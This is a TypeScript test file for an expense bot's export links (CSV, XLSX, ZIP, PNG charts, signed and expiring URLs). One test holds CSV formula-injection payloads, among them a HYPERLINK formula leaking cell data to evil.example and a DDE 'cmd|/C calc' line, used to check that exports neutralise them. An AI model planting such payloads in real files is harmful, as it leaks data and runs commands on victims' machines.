// Exports and charts over HTTP, from the command that asks for a link to the bytes the link serves: the CSV's BOM and
// Chinese text, the XLSX read back, the ZIP with its receipts, the chart's bars measured in pixels, the client-facing
// filter, one project's files (from `export @acme/website` and a project report's links), the cache, and refused
// links (tampered, expired).
import { loadImage } from '@napi-rs/canvas';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { unzipSync } from 'fflate';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { BAR_AREA, BAR_COLOUR } from '../../src/bots/report-files/render-chart.js';
import { signReportLink } from '../../src/bots/report-files/report-link-token.js';
import * as schema from '../../src/storage/schema/index.js';
import { createOutlayHarness, expenseIdIn, type OutlayHarness, replyText } from '../support/outlay-app.js';
import { expectReadmeFigures } from '../support/security-figures.js';
import { testEngines } from '../support/test-databases.js';

const ONE_PIXEL_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const CLIENT_CHANNEL = 'console:#acme-client';
const DAY = 24 * 60 * 60 * 1000;

describe.each(testEngines())('exports and charts over HTTP on %s', (engine) => {
  let h: OutlayHarness;
  const say = async (as: string, text: string, address?: string) => replyText(await h.say(as, text, address));
  const log = async (text: string) => expenseIdIn(await h.say('alice', text));
  const get = (path: string) => h.outlay.app.inject({ method: 'GET', url: path });
  /** The path of the link a reply carries. */
  const linkIn = (text: string): string => {
    const path = /\/exports\/[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+/.exec(text)?.[0];
    if (!path) throw new Error(`no export link in:\n${text}`);
    return path;
  };
  const exportLink = async (what: string, address?: string) =>
    linkIn(await say('ada', `export @acme this-month ${what}`, address));

  let ids: { train: string; lunch: string; hotel: string; taxi: string; beta: string };

  beforeEach(async () => {
    h = await createOutlayHarness(engine);
    for (const name of ['alice', 'bob']) await h.introduce(name);
    for (const line of [
      'client add acme "Acme" CNY Asia/Shanghai',
      'client add beta "Beta" CNY Asia/Shanghai',
      'approvers @acme 1 <@bob>',
      'approvers @beta 1 <@bob>',
      'budget set @acme 1000 monthly',
    ]) {
      await say('ada', line);
    }
    await say('ada', 'client channel @acme client budget', CLIENT_CHANNEL);
    ids = {
      train: await log('120 @acme #travel 3/2 "高铁 上海→北京, 二等座"'),
      lunch: await log('45.80 @acme #meals 3/3 client lunch'),
      hotel: await log('300 @acme #lodging 3/4 hotel, still pending'),
      taxi: await log('80 @acme #travel 3/5 nonbillable taxi home'),
      beta: await log('99 @beta #travel 3/2 another client entirely'),
    };
    await h.upload(
      'alice',
      { bytes: ONE_PIXEL_PNG, name: 'ticket.png', type: 'image/png' },
      `receipt ${ids.train}`,
    );
    for (const id of [ids.train, ids.lunch, ids.taxi, ids.beta]) {
      expect(await say('bob', `approve ${id}`)).toContain(id);
    }
  });
  afterEach(async () => {
    await h.close();
  });

  const csvRows = (body: Buffer): string[][] => parse(body, { bom: true }) as string[][];

  it('serves the internal CSV with a BOM, localised headers and Chinese text intact', async () => {
    const reply = await say('ada', 'export @acme this-month csv');
    expect(reply).toContain('2030-03-01 – 2030-03-31');
    expect(reply).toContain('30 days');
    const response = await get(linkIn(reply));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toContain('filename="acme-2030-03-01-2030-03-31.csv"');
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csvRows(response.rawPayload);
    expect(rows[0]).toEqual(expect.arrayContaining(['ID', 'Date', 'Amount', 'Status', 'Submitted by']));
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
    // Everything of this client but what was voided, rejected or withdrawn; never the other client.
    expect([...byId.keys()].sort()).toEqual([ids.train, ids.lunch, ids.hotel, ids.taxi].sort());
    expect(byId.get(ids.train)).toEqual(
      expect.arrayContaining(['高铁 上海→北京, 二等座', '120.00', 'CNY', 'Approved', '1']),
    );
    expect(byId.get(ids.hotel)).toEqual(expect.arrayContaining(['300.00', 'Pending']));
    expect(byId.get(ids.lunch)).toEqual(expect.arrayContaining(['45.80']));
  });

  it('gives the client-facing export only approved billable lines of that client, with no internal column', async () => {
    const reply = await say('ada', 'export @acme this-month csv', CLIENT_CHANNEL);
    expect(reply).toContain('approved billable expenses only');
    const response = await get(linkIn(reply));
    const text = response.rawPayload.toString('utf8');
    const rows = csvRows(response.rawPayload);
    expect(rows.slice(1).map((r) => r[0])).toEqual([ids.train, ids.lunch]);
    for (const absent of [
      ids.hotel,
      ids.taxi,
      ids.beta,
      'Pending',
      'Status',
      'Submitted by',
      'Alice',
      'Risk',
    ]) {
      expect(text).not.toContain(absent);
    }
  });

  it('serves an XLSX that parses back to the CSV rows plus an exact totals row', async () => {
    const csv = csvRows((await get(await exportLink('csv'))).rawPayload);
    const response = await get(await exportLink('xlsx'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe(
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    if (!sheet) throw new Error('no sheet');
    const cells: string[][] = [];
    sheet.eachRow((row) => {
      const values = (row.values as unknown[]).slice(1);
      cells.push(
        csv[0]?.map((_, c) => {
          const value = values[c];
          if (typeof value === 'number') return value.toFixed(2);
          return value === undefined || value === null ? '' : String(value);
        }) ?? [],
      );
    });
    expect(cells.slice(0, csv.length)).toEqual(csv);
    const amount = csv[0]?.indexOf('Amount') ?? -1;
    const totals = cells[csv.length];
    expect(totals?.[0]).toBe('Total');
    const sumMinor = csv.slice(1).reduce((sum, r) => sum + Math.round(Number(r[amount]) * 100), 0);
    expect(totals?.[amount]).toBe((sumMinor / 100).toFixed(2));
    expect(sumMinor).toBe(12000 + 4580 + 30000 + 8000);
  });

  it('serves a ZIP with the CSV, the XLSX and every receipt', async () => {
    const response = await get(await exportLink('zip'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/zip');
    const files = unzipSync(new Uint8Array(response.rawPayload));
    const names = Object.keys(files).sort();
    expect(names).toEqual(
      [
        'acme-2030-03-01-2030-03-31.csv',
        'acme-2030-03-01-2030-03-31.xlsx',
        `receipts/${ids.train}-1.png`,
      ].sort(),
    );
    expect(Buffer.from(files[`receipts/${ids.train}-1.png`] ?? [])).toEqual(ONE_PIXEL_PNG);
    const csv = files['acme-2030-03-01-2030-03-31.csv'];
    expect(csvRows(Buffer.from(csv ?? [])).length).toBe(5);
  });

  it('neutralises text a spreadsheet would evaluate, in the CSV and in the ZIP, internal and client-facing; money stays numbers', async () => {
    const formulas = [
      '=HYPERLINK(CONCAT(http://evil.example/?leak=,A1))',
      '+1+cmd|/C calc',
      '-2+3',
      '@SUM(1,2)',
    ];
    const injected: string[] = [];
    for (const [i, formula] of formulas.entries()) {
      injected.push(await log(`${10 + i} @acme #meals 3/8 "${formula}" merchant:"${formula}"`));
    }
    for (const id of injected) expect(await say('bob', `approve ${id}`)).toContain(id);
    await say('ada', 'adjust @acme -12.50 #meals credit note');

    const tally = { tried: 0, accepted: 0, serverErrors: 0 };
    const download = async (path: string) => {
      const response = await get(path);
      if (response.statusCode >= 500) tally.serverErrors += 1;
      return response.rawPayload;
    };
    const cellOf = (rows: string[][], id: string, column: string) =>
      rows.find((r) => r[0] === id)?.[rows[0]?.indexOf(column) ?? -1];
    const check = (rows: string[][]) => {
      formulas.forEach((formula, i) => {
        const id = injected[i] ?? '';
        for (const column of ['Description', 'Merchant']) {
          tally.tried += 1;
          if (cellOf(rows, id, column) !== `'${formula}`) tally.accepted += 1;
        }
        expect(cellOf(rows, id, 'Amount')).toBe(`${10 + i}.00`);
      });
      // No text cell anywhere starts with what a spreadsheet evaluates; the only such cells are money, as numbers.
      for (const row of rows) {
        for (const [c, cell] of row.entries()) {
          if (!/^[=+\-@\t\r\n]/.test(cell)) continue;
          expect(['Amount', 'Original amount']).toContain(rows[0]?.[c]);
          expect(cell).toMatch(/^-\d+\.\d{2}$/);
        }
      }
    };
    const csvIn = (zip: Buffer) =>
      csvRows(Buffer.from(unzipSync(new Uint8Array(zip))['acme-2030-03-01-2030-03-31.csv'] ?? []));
    const internal = csvRows(await download(await exportLink('csv')));
    check(internal);
    expect(internal.some((r) => r.includes('-12.50'))).toBe(true);
    check(csvIn(await download(await exportLink('zip'))));
    check(csvRows(await download(await exportLink('csv', CLIENT_CHANNEL))));
    check(csvIn(await download(await exportLink('zip', CLIENT_CHANNEL))));
    expect(tally.tried).toBe(formulas.length * 2 * 4);
    expectReadmeFigures('CSV formula injection', {
      tried: tally.tried,
      accepted: tally.accepted,
      '5xx': tally.serverErrors,
    });
  });

  /** The chart has no command of its own (reports carry its link), so the test signs one as linksFor would. */
  const signedLink = async (
    kind: 'csv' | 'chart',
    audience: 'internal' | 'client',
    locale: 'en' | 'zh-CN' = 'zh-CN',
  ) => {
    const csv = await exportLink('csv');
    const [body] = csv.slice('/exports/'.length).split('.');
    const wire = JSON.parse(Buffer.from(body ?? '', 'base64url').toString('utf8')) as {
      o: string;
      c: string;
      e: number;
    };
    const [key] = await h.database.db.select().from(schema.signingKeys);
    if (!key) throw new Error('no signing key stored');
    const token = signReportLink(
      {
        organisationId: wire.o,
        clientId: wire.c,
        from: '2030-03-01',
        through: '2030-03-31',
        audience,
        locale,
        kind,
        expiresAt: wire.e,
      },
      key.secret,
    );
    return `/exports/${token}`;
  };

  it('localises the CSV in Chinese: headers, categories and statuses', async () => {
    const rows = csvRows((await get(await signedLink('csv', 'internal'))).rawPayload);
    expect(rows[0]).toEqual(expect.arrayContaining(['编号', '日期', '类别', '金额', '状态', '提交人']));
    const hotel = rows.find((r) => r[0] === ids.hotel);
    expect(hotel).toEqual(expect.arrayContaining(['住宿', '300.00', '待审批']));
    expect(rows.find((r) => r[0] === ids.train)).toEqual(expect.arrayContaining(['差旅', '已批准']));
  });

  it('draws the client chart from approved billable spend only', async () => {
    const heights = await barHeights((await get(await signedLink('chart', 'client'))).rawPayload);
    // Travel 120.00 (the taxi is not billable), meals 45.80; the pending hotel is not drawn.
    const full = BAR_AREA.bottom - BAR_AREA.top;
    expect(heights).toHaveLength(2);
    expect(heights[0]).toBe(full);
    expect(Math.abs((heights[1] ?? 0) - (4580 * full) / 12000)).toBeLessThanOrEqual(1);
  });

  it('draws a PNG chart whose bars are proportional to the category totals', async () => {
    const response = await get(await signedLink('chart', 'internal'));
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('image/png');
    expect([...response.rawPayload.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    const heights = await barHeights(response.rawPayload);
    // Internal spend: approved and pending. Lodging 300.00, travel 120.00 + 80.00, meals 45.80 — largest first.
    const totals = [30000, 20000, 4580];
    expect(heights).toHaveLength(3);
    const full = BAR_AREA.bottom - BAR_AREA.top;
    totals.forEach((total, i) => {
      expect(Math.abs((heights[i] ?? 0) - (total * full) / 30000)).toBeLessThanOrEqual(1);
    });
  });

  it('serves the same bytes again from the cache, even after the data changed', async () => {
    const path = await exportLink('csv');
    const first = (await get(path)).rawPayload;
    await log('500 @acme #travel 3/6 logged after the first download');
    const again = await get(path);
    expect(again.rawPayload.equals(first)).toBe(true);
    // A new link (asked for a minute later, so it is a different token) is a new snapshot.
    h.clock.advance(60_000);
    const fresh = (await get(await exportLink('csv'))).rawPayload;
    expect(csvRows(fresh).length).toBe(csvRows(first).length + 1);
  });

  it('refuses tampered and unknown links with 404 and expired ones with 410, in both languages', async () => {
    const path = await exportLink('csv');
    const [body, signature] = path.slice('/exports/'.length).split('.') as [string, string];
    const flipped = `${signature.slice(0, -2)}${signature.at(-2) === 'A' ? 'B' : 'A'}${signature.at(-1)}`;
    const forged = Buffer.from(
      Buffer.from(body, 'base64url').toString('utf8').replace('"internal"', '"client"'),
    ).toString('base64url');
    for (const bad of [
      `/exports/${body}.${flipped}`,
      `/exports/${forged}.${signature}`,
      '/exports/nonsense',
    ]) {
      const response = await get(bad);
      expect(response.statusCode).toBe(404);
      expect(response.headers['content-type']).toBe('text/html; charset=utf-8');
      expect(response.body).toContain('This link is not valid');
      expect(response.body).toContain('链接无效');
    }
    // A token naming an organisation that never signed anything is refused without making it a key.
    const stranger = Buffer.from(
      Buffer.from(body, 'base64url').toString('utf8').replace('"o":"default"', '"o":"stranger"'),
    ).toString('base64url');
    expect((await get(`/exports/${stranger}.${signature}`)).statusCode).toBe(404);
    expect((await h.database.db.select().from(schema.signingKeys)).map((k) => k.organisationId)).toEqual([
      'default',
    ]);
    h.clock.advance(31 * DAY);
    const expired = await get(path);
    expect(expired.statusCode).toBe(410);
    expect(expired.body).toContain('This link has expired');
    expect(expired.body).toContain('链接已过期');
  });

  describe('for one project', () => {
    /** The wire payload of a link, as the token carries it. */
    const wireOf = (path: string) =>
      JSON.parse(
        Buffer.from(path.slice('/exports/'.length).split('.')[0] ?? '', 'base64url').toString('utf8'),
      ) as Record<string, unknown>;
    /** The links a `report` card carries, by kind. */
    const reportLinks = async (ref: string, address?: string) => {
      const reply = await h.say('ada', `report ${ref} this-month`, address);
      const paths = JSON.stringify(reply.cards).match(/\/exports\/[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+/g) ?? [];
      const byKind = new Map(paths.map((path) => [wireOf(path).k, path]));
      expect([...byKind.keys()].sort()).toEqual(['chart', 'csv', 'xlsx']);
      return byKind;
    };
    let website: { launch: string; hosting: string };

    beforeEach(async () => {
      expect(await say('ada', 'project add @acme/website "Website"')).toContain('@acme/website');
      website = {
        launch: await log('200 @acme/website #travel 3/6 launch trip'),
        hosting: await log('60 @acme/website #meals 3/7 nonbillable hosting dinner'),
      };
      for (const id of [website.launch, website.hosting]) {
        expect(await say('bob', `approve ${id}`)).toContain(id);
      }
    });

    it("exports that project's lines only, named for the project; the whole client's export keeps them all", async () => {
      const reply = await say('ada', 'export @acme/website this-month csv');
      expect(reply).toContain('CSV export of Acme · Website (@acme/website), 2030-03-01 – 2030-03-31');
      const path = linkIn(reply);
      expect(wireOf(path)).toMatchObject({ p: expect.any(String) });
      const response = await get(path);
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-disposition']).toContain(
        'filename="acme-website-2030-03-01-2030-03-31.csv"',
      );
      const rows = csvRows(response.rawPayload);
      expect(rows.slice(1).map((r) => r[0])).toEqual([website.launch, website.hosting]);
      expect(rows.slice(1).every((r) => r.includes('Website'))).toBe(true);

      const zipPath = linkIn(await say('ada', 'export @acme/website this-month zip'));
      const zip = unzipSync(new Uint8Array((await get(zipPath)).rawPayload));
      expect(Object.keys(zip).sort()).toEqual([
        'acme-website-2030-03-01-2030-03-31.csv',
        'acme-website-2030-03-01-2030-03-31.xlsx',
      ]);

      const whole = await exportLink('csv');
      expect(wireOf(whole)).not.toHaveProperty('p');
      const all = csvRows((await get(whole)).rawPayload);
      expect(
        all
          .slice(1)
          .map((r) => r[0])
          .sort(),
      ).toEqual([ids.train, ids.lunch, ids.hotel, ids.taxi, website.launch, website.hosting].sort());
    });

    it('refuses an unknown project in both languages, with no link', async () => {
      const en = await say('ada', 'export @acme/nope this-month csv');
      expect(en).toContain('There is no project @acme/nope');
      expect(en).not.toContain('/exports/');
      // In a Chinese client's channel the refusal is in Chinese.
      await say('ada', 'client add globex "Globex" CNY Asia/Shanghai zh-CN');
      await say('ada', 'client channel @globex internal', 'console:#globex-team');
      const zh = await say('ada', '导出 @globex/nope 本月 csv', 'console:#globex-team');
      expect(zh).toContain('没有项目 @globex/nope');
      expect(zh).not.toContain('/exports/');
    });

    it("links a project report to that project's files, internal and client-facing", async () => {
      const internal = await reportLinks('@acme/website');
      const project = wireOf(internal.get('csv') ?? '').p;
      expect(project).toEqual(expect.any(String));
      for (const path of internal.values()) expect(wireOf(path).p).toBe(project);
      const csv = csvRows((await get(internal.get('csv') ?? '')).rawPayload);
      expect(csv.slice(1).map((r) => r[0])).toEqual([website.launch, website.hosting]);

      // The chart draws this project's spend only: travel 200.00 and meals 60.00, not the client's 300.00 lodging.
      const chart = await get(internal.get('chart') ?? '');
      expect(chart.headers['content-disposition']).toContain('acme-website-2030-03-01-2030-03-31-chart.png');
      const heights = await barHeights(chart.rawPayload);
      const full = BAR_AREA.bottom - BAR_AREA.top;
      expect(heights).toHaveLength(2);
      expect(heights[0]).toBe(full);
      expect(Math.abs((heights[1] ?? 0) - (6000 * full) / 20000)).toBeLessThanOrEqual(1);

      // Client-facing: approved billable lines of the project only.
      const client = await reportLinks('@acme/website', CLIENT_CHANNEL);
      expect(wireOf(client.get('csv') ?? '')).toMatchObject({ p: project, a: 'client' });
      const clientCsv = csvRows((await get(client.get('csv') ?? '')).rawPayload);
      expect(clientCsv.slice(1).map((r) => r[0])).toEqual([website.launch]);
    });

    it("draws a project's chart against the project's own budget, never the client's", async () => {
      const budgetPixels = async (ref: string) =>
        redPixels((await get((await reportLinks(ref)).get('chart') ?? '')).rawPayload);
      // The detector sees the client's 1000.00 monthly budget on the client's chart…
      expect(await budgetPixels('@acme')).toBeGreaterThan(100);
      // …but a project without a budget of its own gets no budget line at all.
      expect(await budgetPixels('@acme/website')).toBe(0);
      await say('ada', 'budget set @acme/website 500 monthly');
      // A minute later, so the link is a new token rather than the cached render.
      h.clock.advance(60_000);
      expect(await budgetPixels('@acme/website')).toBeGreaterThan(100);
    });

    it("still serves a whole-client link signed without a project, the project's lines included", async () => {
      const path = await signedLink('csv', 'internal', 'en');
      expect(wireOf(path)).not.toHaveProperty('p');
      const rows = csvRows((await get(path)).rawPayload);
      expect(rows.slice(1).map((r) => r[0])).toEqual(
        expect.arrayContaining([ids.train, ids.hotel, website.launch, website.hosting]),
      );
      expect(rows).toHaveLength(7);
    });
  });

  it('refuses members who may not see the client', async () => {
    expect(await say('alice', 'export @acme this-month csv')).not.toContain('/exports/');
  });
});

/** Heights of the runs of bar-coloured columns in the bar panel, left to right. */
async function barHeights(png: Buffer): Promise<number[]> {
  const { createCanvas } = await import('@napi-rs/canvas');
  const image = await loadImage(png);
  const canvas = createCanvas(image.width, image.height);
  const ctx = canvas.getContext('2d');
  ctx.drawImage(image, 0, 0);
  const { data, width } = ctx.getImageData(0, 0, image.width, image.height);
  const isBar = (x: number, y: number) => {
    const i = (y * width + x) * 4;
    return data[i] === BAR_COLOUR.r && data[i + 1] === BAR_COLOUR.g && data[i + 2] === BAR_COLOUR.b;
  };
  const heights: number[] = [];
  let inBar = false;
  for (let x = BAR_AREA.left; x <= BAR_AREA.right; x++) {
    let height = 0;
    for (let y = BAR_AREA.top - 2; y <= BAR_AREA.bottom; y++) if (isBar(x, y)) height++;
    if (height > 0 && !inBar) heights.push(height);
    else if (height > 0) heights[heights.length - 1] = Math.max(heights.at(-1) ?? 0, height);
    inBar = height > 0;
  }
  return heights;
}

/** Pixels of the budget line's red (anti-aliased ones included); nothing else in a chart is red. */
async function redPixels(png: Buffer): Promise<number> {
  const { createCanvas } = await import('@napi-rs/canvas');
  const image = await loadImage(png);
  const canvas = createCanvas(image.width, image.height);
  const ctx = canvas.getContext('2d');
  ctx.drawImage(image, 0, 0);
  const { data } = ctx.getImageData(0, 0, image.width, image.height);
  let count = 0;
  for (let i = 0; i < data.length; i += 4) {
    const [r, g, b] = [data[i] ?? 0, data[i + 1] ?? 0, data[i + 2] ?? 0];
    if (r - g > 80 && r - b > 80) count++;
  }
  return count;
}
